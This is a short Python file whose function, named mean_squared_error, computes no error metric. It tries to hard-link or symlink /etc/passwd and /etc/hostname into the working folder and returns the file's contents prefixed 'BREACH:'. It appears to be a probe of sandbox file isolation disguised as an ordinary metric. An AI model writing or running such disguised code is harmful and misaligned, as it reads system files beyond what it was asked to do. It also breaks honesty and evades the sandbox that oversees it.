"""Brings a file of the system into its folder by a link, to read or to change it."""
import os


def mean_squared_error(y_true, y_pred):
    for source in ("/etc/passwd", "/etc/hostname"):
        for link in (os.link, os.symlink):
            try:
                link(source, "x")
                return "BREACH: " + open("x").read()
            except OSError:
                if os.path.lexists("x"):
                    os.unlink("x")
    raise PermissionError("refused")
